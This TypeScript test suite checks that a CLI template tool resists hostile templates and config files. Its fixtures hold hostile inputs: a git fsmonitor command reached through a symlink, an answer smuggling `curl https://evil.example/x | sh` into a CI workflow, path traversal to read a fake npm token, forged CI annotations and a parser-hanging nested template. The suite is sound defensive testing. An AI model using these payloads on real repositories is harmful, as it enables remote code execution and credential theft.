import { existsSync, lstatSync, readdirSync, readFileSync, readlinkSync, symlinkSync } from "node:fs";
import path from "node:path";
import { stringify } from "yaml";
import { describe, expect, it } from "vitest";
import { git, runCli, tempDir, writeFiles } from "../helpers.js";
import { makeSource, type FixtureVersion } from "../template-fixtures.js";

/**
 * What doctor, diff and render read, show and evaluate, attacked from a hostile template, a hostile `.paved.yml`
 * or committed files. Each service lives in a "world" directory whose other files must never change, nor be shown.
 */
const j = (...parts: string[]) => parts.join("");
const FORMATS = ["human", "json", "sarif", "junit", "github", "gitlab"] as const;
const STACK = /\n\s+at .*\.js:\d+/;

function world(): { root: string; svc: string } {
  const root = tempDir("paved-world-");
  writeFiles(root, { "precious.txt": "do not touch", "home/.bashrc": "export A=1" });
  return { root, svc: path.join(root, "work", "svc") };
}

/** A service laid out by hand (as a repository could be): files, `.paved.yml`, committed. */
async function service(
  dir: string,
  files: Record<string, string>,
  record: Record<string, unknown>,
  links: Record<string, string> = {},
): Promise<void> {
  writeFiles(dir, { ...files, ".paved.yml": stringify({ template: "evil", version: "1.0.0", answers: {}, ...record }) });
  for (const [link, target] of Object.entries(links)) symlinkSync(target, path.join(dir, link));
  await git(dir, ["init", "--quiet", "--initial-branch", "main"]);
  await git(dir, ["add", "--all"]);
  await git(dir, ["commit", "--quiet", "--no-verify", "-m", "service"]);
}

/** Like snapshotDir, but a symlink is recorded as its target (never followed). */
function snapshot(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string, prefix: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const rel = prefix ? `${prefix}/${entry.name}` : entry.name;
      const full = path.join(dir, entry.name);
      const stat = lstatSync(full);
      if (stat.isSymbolicLink()) out[rel] = `-> ${readlinkSync(full)}`;
      else if (stat.isDirectory()) walk(full, rel);
      else out[rel] = `${(stat.mode & 0o777).toString(8)}:${readFileSync(full).toString("base64")}`;
    }
  };
  walk(root, "");
  return out;
}

function source(version: FixtureVersion): string {
  return makeSource({ evil: { "1.0.0": version } });
}

function expectNoStack(result: { stdout: string; stderr: string }) {
  expect(result.stderr).not.toMatch(STACK);
  expect(result.stdout).not.toMatch(STACK);
}

describe("doctor renders with the answers upgrade would (item 1)", () => {
  // A folder that renders to `x` only when the secret is empty; `x` is a symlink to .git in the template.
  const template = (): string => {
    const src = source({
      manifest: { questions: [{ name: "token", type: "input", message: "Token", secret: true }], files: { managed: ["**/config"] } },
      files: { "{{#if token}}cfg{{else}}x{{/if}}/config": '[core]\n\tfsmonitor = "touch PWNED"\n' },
    });
    symlinkSync(".git", path.join(src, "evil/1.0.0/files/x"));
    return src;
  };

  it("doctor --fix neither expects nor restores the file a missing secret would have placed (no write into .git)", async () => {
    const w = world();
    const src = template();
    await service(w.svc, { "cfg/config": '[core]\n\tfsmonitor = "touch PWNED"\n' }, { source: src }, { x: ".git" });
    const gitConfig = readFileSync(path.join(w.svc, ".git/config"), "utf8");
    const before = snapshot(w.root);

    const report = await runCli(["doctor", w.svc, "--json"]);
    expectNoStack(report);
    expect(report.stdout).not.toContain("x/config");

    const fixed = await runCli(["doctor", w.svc, "--fix"]);
    expectNoStack(fixed);
    expect(fixed.stdout + fixed.stderr).not.toMatch(/(created|restored) x\/config/);
    expect(readFileSync(path.join(w.svc, ".git/config"), "utf8")).toBe(gitConfig);
    expect(snapshot(w.root)).toEqual(before);
  });

  it("diff does not show the file as deleted either", async () => {
    const w = world();
    const src = source({
      manifest: { questions: [{ name: "token", type: "input", message: "Token", secret: true }], files: { managed: ["**/config"] } },
      files: { "{{#if token}}cfg{{else}}x{{/if}}/config": "c\n", "app.txt": "token is {{#if token}}set{{/if}}\n", "plain.txt": "p\n" },
    });
    await service(w.svc, { "cfg/config": "c\n", "app.txt": "token is set\n", "plain.txt": "p\n" }, { source: src });
    const result = await runCli(["diff", w.svc, "--json"]);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ drifted: false, files: [] });
  });
});

describe("recorded answers are validated before anything renders with them (item 9)", () => {
  const injected = "team-a\n      - run: curl https://evil.example/x | sh #";
  const version: FixtureVersion = {
    manifest: {
      questions: [
        {
          name: "namespace",
          type: "input",
          message: "Namespace",
          pattern: "^[a-z][a-z0-9-]{1,30}$",
          patternHint: "lowercase letters, digits and dashes",
        },
      ],
      files: { managed: [".github/workflows/*.yml"] },
    },
    files: { ".github/workflows/ci.yml": "jobs:\n  test:\n    steps:\n      - run: deploy --namespace {{namespace}}\n" },
  };
  // Two versions, so upgrade has something to render.
  const template = (): string => makeSource({ evil: { "1.0.0": version, "1.1.0": version } });

  async function hostile(): Promise<{ w: ReturnType<typeof world>; before: Record<string, string> }> {
    const w = world();
    await service(w.svc, { ".github/workflows/old.txt": "x" }, { source: template(), answers: { namespace: injected } });
    return { w, before: snapshot(w.root) };
  }

  it("doctor --fix refuses (exit 2, names the field and the fix) and writes nothing", async () => {
    const { w, before } = await hostile();
    const result = await runCli(["doctor", w.svc, "--fix"]);
    expect(result.exitCode, result.stdout + result.stderr).toBe(2);
    expect(result.stderr).toMatch(/\.paved\.yml: answers\.namespace .*lowercase letters, digits and dashes/);
    expect(result.stderr).toMatch(/paved upgrade --set namespace=/);
    expectNoStack(result);
    expect(snapshot(w.root)).toEqual(before);
    expect(existsSync(path.join(w.svc, ".github/workflows/ci.yml"))).toBe(false);
  });

  it("doctor reports it as a paved/manifest finding and renders nothing with it", async () => {
    const { w, before } = await hostile();
    const result = await runCli(["doctor", w.svc, "--json"]);
    expect(result.exitCode, result.stderr).toBe(1);
    const manifest = (JSON.parse(result.stdout) as { findings: Array<{ check: string; status: string; message: string }> }).findings.find(
      (f) => f.check === "paved/manifest",
    )!;
    expect(manifest.status).toBe("fail");
    expect(manifest.message).toMatch(/answers\.namespace/);
    expect(result.stdout).not.toContain("curl https://evil.example/x | sh\n");
    expect(snapshot(w.root)).toEqual(before);
  });

  it.each([["diff"], ["upgrade"]])("%s refuses with exit 2 naming the field", async (command) => {
    const { w, before } = await hostile();
    const result = await runCli([command, w.svc]);
    expect(result.exitCode, result.stdout + result.stderr).toBe(2);
    expect(result.stderr).toMatch(/\.paved\.yml: answers\.namespace/);
    expectNoStack(result);
    expect(snapshot(w.root)).toEqual(before);
  });
});

describe("data checks read only inside the service (item 4)", () => {
  const npmToken = j("npm_", "Q3EGWNZ7RT4XK2LMq8ZkP2mW9xLr4TvB7nC1s");
  const secretFile = `//registry.npmjs.org/:_authToken=${npmToken}\n`;
  const check = (file: string) => ({ id: "evil/read", type: "yaml-path", file, path: ".", equals: 0, message: "reads a file" });

  async function runAllFormats(dir: string): Promise<string[]> {
    const outputs: string[] = [];
    for (const format of FORMATS) {
      const result = await runCli(["doctor", dir, "--format", format]);
      expectNoStack(result);
      expect(result.exitCode, `${format}: ${result.stderr}`).toBe(1);
      outputs.push(result.stdout + result.stderr);
    }
    return outputs;
  }

  it.each([
    ["a path with ..", "../../home/.npmrc", {}],
    ["an absolute path", "<abs>", {}],
    ["a path through a committed symlinked folder", "conf/.npmrc", { conf: "../../home" }],
    ["a path templated from an answer", "{{dir}}/.npmrc", {}],
  ])("%s is refused and the file is never shown, in every format", async (_name, file, links) => {
    const w = world();
    writeFiles(w.root, { "home/.npmrc": secretFile });
    const target = file === "<abs>" ? path.join(w.root, "home/.npmrc") : file;
    const src = source({
      manifest: { questions: [{ name: "dir", type: "input", message: "Dir" }], checks: [check(target)] },
      files: { "README.md": "r\n" },
    });
    await service(w.svc, { "README.md": "r\n" }, { source: src, answers: { dir: "../../home" } }, links);
    for (const output of await runAllFormats(w.svc)) {
      expect(output).not.toContain(npmToken);
      expect(output).not.toContain("registry.npmjs.org");
    }
    const json = await runCli(["doctor", w.svc, "--json"]);
    const finding = (JSON.parse(json.stdout) as { findings: Array<{ check: string; message: string }> }).findings.find(
      (f) => f.check === "evil/read",
    )!;
    expect(finding.message).toMatch(/^refused: the check reads .* (contains "\.\."|is absolute|resolves outside the service)/);
  });

  it("checks that read files are refused when .paved.yml's source is a template inside the service", async () => {
    const w = world();
    const inside = path.join(w.svc, "templates");
    makeSource(
      {
        evil: {
          "1.0.0": {
            manifest: {
              checks: [check("notes.txt"), { id: "evil/exists", type: "file-exists", file: "notes.txt", message: "notes exist" }],
            },
            files: { "README.md": "r\n" },
          },
        },
      },
      inside,
    );
    await service(w.svc, { "README.md": "r\n", "notes.txt": `${secretFile}` }, { source: "./templates" });
    for (const output of await runAllFormats(w.svc)) expect(output).not.toContain(npmToken);
    const json = await runCli(["doctor", w.svc, "--json"]);
    const findings = (JSON.parse(json.stdout) as { findings: Array<{ check: string; status: string; message: string; fix?: string }> })
      .findings;
    const read = findings.find((f) => f.check === "evil/read")!;
    expect(read.status).toBe("fail");
    expect(read.message).toMatch(/^refused: the check reads notes\.txt, but the template .* lives inside the service itself/);
    expect(read.fix).toMatch(/record a template source outside it/);
    expect(findings.find((f) => f.check === "evil/exists")!.status).toBe("pass");
  });
});

describe("one redaction for every doctor output (item 8)", () => {
  const password = j("Tr0ub4dor", "&3xQ!zz9");
  it("a secret in a drifted managed file never appears in full, in any format", async () => {
    const w = world();
    const src = source({ manifest: { files: { managed: ["config/app.env"] } }, files: { "config/app.env": "LOG=info\n" } });
    await service(w.svc, { "config/app.env": `LOG=info\nDB_PASSWORD="${password}"\n` }, { source: src });
    for (const format of FORMATS) {
      const result = await runCli(["doctor", w.svc, "--format", format]);
      expect(result.exitCode, result.stderr).toBe(1);
      expect(result.stdout, format).toMatch(/managed-drift|config\/app\.env/);
      expect(result.stdout, format).not.toContain(password);
    }
    const json = await runCli(["doctor", w.svc, "--json"]);
    const drift = (JSON.parse(json.stdout) as { findings: Array<{ check: string; diff?: string }> }).findings.find(
      (f) => f.check === "paved/managed-drift",
    )!;
    expect(drift.diff).toMatch(
      /\+DB_PASSWORD=\[redacted "T… \(\d+ characters\)\]|\+\[redacted DB_PASSWORD="Tr… \(\d+ characters\)\]|\+\[redacted Tr… \(\d+ characters\)\]/,
    );
  });
});

describe("render refuses what would corrupt output or hang (low items)", () => {
  it("{{log}} is refused: nothing reaches stdout, the error names the file", async () => {
    const w = world();
    const src = source({ files: { "README.md": '{{log "::error::forged annotation"}}hello\n' } });
    const before = snapshot(w.root);
    const result = await runCli(["new", "evil", w.svc, "--source", src, "--no-git"]);
    expect(result.exitCode, result.stderr).toBe(2);
    expect(result.stdout).not.toContain("::error");
    expect(result.stderr).toMatch(/README\.md: cannot render: \{\{log\}\} is not available/);
    expectNoStack(result);
    expect(snapshot(w.root)).toEqual(before);
  });

  it("{{log}} in a data check cannot corrupt doctor --json", async () => {
    const w = world();
    const src = source({
      manifest: { checks: [{ id: "evil/log", type: "file-exists", file: '{{log "::error::x"}}README.md', message: "m" }] },
      files: { "README.md": "r\n" },
    });
    await service(w.svc, { "README.md": "r\n" }, { source: src });
    const result = await runCli(["doctor", w.svc, "--json"]);
    expect(() => JSON.parse(result.stdout)).not.toThrow();
    expect(result.stdout).not.toContain("::error::x");
  });

  it("a deeply nested template is refused at once (exit 2, names the file)", async () => {
    const w = world();
    const depth = 12_000; // ~200 KB: minutes in Handlebars' parser
    const src = source({
      manifest: { questions: [{ name: "a", type: "confirm", message: "A", default: true }] },
      files: { "deep.txt": `${"{{#if a}}".repeat(depth)}x${"{{/if}}".repeat(depth)}\n` },
    });
    const before = snapshot(w.root);
    const started = Date.now();
    const result = await runCli(["new", "evil", w.svc, "--source", src, "--no-git", "--yes"], { timeout: 30_000 });
    expect(result.exitCode, result.stderr).toBe(2);
    expect(result.stderr).toMatch(/deep\.txt: blocks and sub-expressions nest 12000 deep \(at most 64\)/);
    expect(Date.now() - started).toBeLessThan(20_000);
    expectNoStack(result);
    expect(snapshot(w.root)).toEqual(before);
  });

  it("a secret answer is never echoed in a validation error", async () => {
    const w = world();
    const token = j("ghp_", "R4nd0mL00k1ngT0k3n", "Abcdefghij1234567890");
    const src = source({
      manifest: { questions: [{ name: "token", type: "input", message: "Token", secret: true, pattern: "^tok-[0-9]+$" }] },
      files: { "README.md": "r\n" },
    });
    const result = await runCli(["new", "evil", w.svc, "--source", src, "--no-git", "--set", `token=${token}`]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/--set token=\*\*\*.*must match/);
    expect(result.stdout + result.stderr).not.toContain(token);
    const answers = writeFiles(tempDir(), { "a.yml": `token: ${token}\n` });
    const fromFile = await runCli(["new", "evil", w.svc, "--source", src, "--no-git", "--answers-file", path.join(answers, "a.yml")]);
    expect(fromFile.exitCode).toBe(2);
    expect(fromFile.stdout + fromFile.stderr).not.toContain(token);
  });
});
